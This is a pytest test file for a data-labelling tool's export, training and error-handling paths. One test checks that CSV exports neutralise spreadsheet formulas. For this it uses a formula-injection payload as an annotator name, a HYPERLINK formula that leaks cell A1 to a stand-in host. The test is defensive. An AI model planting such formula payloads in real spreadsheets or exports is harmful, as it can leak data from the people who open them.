"""The trip out of a labelling project, as a user takes it: every export after skips, undos and backs;
the manifest trained with the very command the export prints; cells a spreadsheet would run; and a
project whose files were damaged or locked answered with exit 2 and the fix, never a traceback."""

from __future__ import annotations

import json
import shlex
import sqlite3
import subprocess
from pathlib import Path

import pandas as pd
import pytest

from conftest import TRILLA, make_image_folder, make_tone_folder, trilla
from trilla.label import Project

KINDS = {
    "classes": ("--classes", "alpha,beta", lambda k: ["alpha", "beta"][k % 2]),
    "multilabel": ("--multilabel", "alpha,beta", lambda k: [["alpha"], ["beta"], ["alpha", "beta"], []][k % 4]),
    "plane": ("--plane", "valence,arousal", lambda k: [round(0.2 * (k % 5) - 0.4, 4), -0.25 if k % 2 else 0.5]),
}


def answered_with_skips(project_dir: Path, kind: str) -> Project:
    """Two annotators; one skips an item, undoes an answer and goes back to change another."""
    project = Project(project_dir)
    value = KINDS[kind][2]
    items = [int(i) for i in project.items()["item"]]
    for k, item in enumerate(items):
        project.answer(item, "ann", value(k))
        project.answer(item, "bob", value(k + (k % 3 == 0)))
    project.answer(items[0], "ann", None)  # ann skips the first item on a second look
    project.answer(items[1], "bob", None)
    project.answer(items[2], "bob", value(5))
    project.undo("bob")  # bob takes the last change back
    project.answer(items[3], "ann", value(7))  # and ann, after B (back), changes an earlier answer
    return project


@pytest.mark.parametrize("kind", list(KINDS))
def test_every_export_works_after_skips_undos_and_backs(tmp_path, kind):
    data = make_image_folder(tmp_path / "pics", {"alpha": 4, "beta": 4}) if kind != "plane" else make_tone_folder(tmp_path / "tones", {"low": 4, "high": 4})
    option, names, _ = KINDS[kind]
    trilla("label", "new", tmp_path / "p", "--data", data, option, names, "-q")
    project = answered_with_skips(tmp_path / "p", kind)
    history = project.answers()
    assert history["skipped"].sum() == 2 and history["undone"].sum() == 1
    csv = trilla("label", "export", tmp_path / "p", "-q")
    table = pd.read_csv(tmp_path / "p" / "labels.csv", keep_default_na=False)
    assert len(table) == 8, csv.stdout
    first = table.iloc[0]["label_history"]
    assert "ann: skipped" in first and first.count("ann: ") == 2
    assert ", undone)" in table.iloc[2]["label_history"]
    ls = trilla("label", "export", tmp_path / "p", "--format", "labelstudio", "-q")
    tasks = json.loads((tmp_path / "p" / "labelstudio.json").read_text())
    annotations = sum(len(t["annotations"]) for t in tasks)
    assert annotations == 14, ls.stdout  # 16 answers less the two skips that stand
    stats = trilla("label", "stats", tmp_path / "p")
    assert "8 of 8 items answered, 14 answers by 2 annotators" in stats.stdout


def run_printed(printed: str, cwd: Path) -> Path:
    """The `trilla train ...` command an export printed, run as printed (with this interpreter's trilla,
    for one epoch) in `cwd`; the run directory it made."""
    command = printed.split("train on them with: ", 1)[1].splitlines()[0]
    words = shlex.split(command)
    assert words[:2] == ["trilla", "train"], command
    trained = subprocess.run([*TRILLA, *words[1:], "--set", "train.epochs=1", "-q"], capture_output=True, text=True, cwd=cwd, timeout=600)
    assert trained.returncode == 0, trained.stdout + trained.stderr
    run = cwd / trained.stdout.strip().splitlines()[-1]
    assert (run / "config.yaml").is_file()
    return run


@pytest.mark.parametrize("layout", ["data beside the project", "data inside the project"])
def test_the_export_trains_with_the_command_it_prints(tmp_path, layout):
    """`label new shop --data photos/`, answer, export: the printed command trains on every answered item,
    whether the pictures sit outside the project folder (absolute paths) or inside it (relative)."""
    work = tmp_path / "work"
    photos = work / ("photos" if layout == "data beside the project" else "my shop/photos")
    make_image_folder(photos, {"guitar": 6, "bass": 6})
    made = trilla("label", "new", "my shop", "--data", photos.relative_to(work), "--classes", "guitar,bass", cwd=work)
    assert "serve it with: trilla label serve 'my shop'" in made.stdout  # a command that pastes into a shell
    project = Project(work / "my shop")
    for row in project.items().itertuples():
        project.answer(int(row.item), "ann", row.given)
    exported = trilla("label", "export", "my shop", cwd=work)
    table = pd.read_csv(work / "my shop" / "labels.csv")
    if layout == "data inside the project":
        assert table["path"].str.startswith("photos/").all() and "allow_outside" not in exported.stdout
    else:
        assert table["path"].map(lambda p: Path(p).is_absolute()).all()
    run = run_printed(exported.stdout, work)
    assert json.loads((run / "classes.json").read_text()) == ["bass", "guitar"]


def test_the_plane_and_multilabel_exports_train_as_printed(tmp_path):
    tones = make_tone_folder(tmp_path / "tones", {"low": 6, "high": 6})
    trilla("label", "new", tmp_path / "mood", "--data", tones, "--plane", "valence,arousal", "-q")
    mood = Project(tmp_path / "mood")
    for k, item in enumerate(mood.items()["item"]):
        mood.answer(int(item), "ann", [0.8 if k % 2 else -0.7, 0.6 if k % 4 < 2 else -0.5])
    printed = trilla("label", "export", tmp_path / "mood").stdout
    assert "data.targets.valence=valence" in printed
    run_printed(printed, tmp_path)
    trilla("label", "new", tmp_path / "mix", "--data", tones, "--multilabel", "low,high", "-q")
    mix = Project(tmp_path / "mix")
    for row in mix.items().itertuples():
        mix.answer(int(row.item), "ann", [row.given])
    printed = trilla("label", "export", tmp_path / "mix").stdout
    assert "task=multilabel" in printed
    run_printed(printed, tmp_path)


def test_exported_cells_cannot_run_as_formulas_and_trilla_reads_them_back(tmp_path):
    pictures = make_image_folder(tmp_path / "pics", {"=1+1": 3, "beta": 3})
    trilla("label", "new", tmp_path / "p", "--data", pictures, "--classes", "=1+1,beta", "-q")
    project = Project(tmp_path / "p")
    evil = '=HYPERLINK("http://example.invalid/?leak="&A1,"click")'
    for row in project.items().itertuples():
        project.answer(int(row.item), evil, row.given)
        project.answer(int(row.item), "@bob", row.given)
    trilla("label", "export", tmp_path / "p", "-q")
    raw = (tmp_path / "p" / "labels.csv").read_text()
    cells = [cell for line in raw.splitlines() for cell in next(__import__("csv").reader([line]))]
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells), raw
    assert "'=1+1" in raw and "'=HYPERLINK" in raw
    again = tmp_path / "again"
    trilla("label", "new", again, "--data", tmp_path / "p" / "labels.csv", "--classes", "=1+1,beta", "-q")
    assert sorted(set(Project(again).items()["given"])) == ["=1+1", "beta"]  # the CSV read back as it was meant
    run = run_printed(trilla("label", "export", tmp_path / "p").stdout, tmp_path)
    assert json.loads((run / "classes.json").read_text()) == ["=1+1", "beta"]


def test_damaged_or_locked_project_files_exit_2_with_the_file_and_the_fix(tmp_path):
    pictures = make_image_folder(tmp_path / "pics", {"alpha": 2, "beta": 2})
    trilla("label", "new", tmp_path / "p", "--data", pictures, "--classes", "alpha,beta", "-q")
    project = Project(tmp_path / "p")
    project.answer(int(project.items()["item"].iloc[0]), "ann", "alpha")
    project.engine.dispose()  # this test process holds no connection to the files it damages
    database, spec = tmp_path / "p" / "labels.db", tmp_path / "p" / "project.json"
    good_db, good_spec = database.read_bytes(), spec.read_text()

    def refused(*args, says: str, file: Path):
        result = trilla(*args, check=False)
        assert result.returncode == 2 and "Traceback" not in result.stderr, result.stderr
        assert str(file) in result.stderr and says in result.stderr, result.stderr

    def put(content: bytes) -> None:
        for journal in tmp_path.glob("p/labels.db-*"):
            journal.unlink()
        database.write_bytes(content)

    for damage in (b"these are not the labels you are looking for" * 100, good_db[: len(good_db) // 3]):
        put(damage)
        refused("label", "export", tmp_path / "p", says="restore it from a backup", file=database)
    put(good_db)
    spec.write_text("{not json")
    refused("label", "stats", tmp_path / "p", says="not readable JSON", file=spec)
    spec.write_text(json.dumps({**json.loads(good_spec), "kind": "boxes"}))
    refused("label", "export", tmp_path / "p", says="names the kind 'boxes'", file=spec)
    spec.write_text(good_spec)

    holder = sqlite3.connect(database, timeout=0)  # another program takes the database for itself
    holder.execute("PRAGMA locking_mode=EXCLUSIVE")
    holder.execute("BEGIN EXCLUSIVE")
    try:
        refused("label", "stats", tmp_path / "p", says="another program holds it locked", file=database)
    finally:
        holder.rollback()
        holder.close()
    assert "1 of 4 items answered" in trilla("label", "stats", tmp_path / "p").stdout


def test_label_new_never_writes_into_a_folder_that_holds_answers_without_a_project_file(tmp_path):
    pictures = make_image_folder(tmp_path / "pics", {"alpha": 2, "beta": 2})
    trilla("label", "new", tmp_path / "p", "--data", pictures, "--classes", "alpha,beta", "-q")
    (tmp_path / "p" / "project.json").unlink()
    before = {path.name: path.read_bytes() for path in (tmp_path / "p").iterdir()}
    result = trilla("label", "new", tmp_path / "p", "--data", pictures, "--classes", "alpha,beta", check=False)
    assert result.returncode == 2 and "holds a labels.db but no project.json" in result.stderr, result.stderr
    assert {path.name: path.read_bytes() for path in (tmp_path / "p").iterdir()} == before
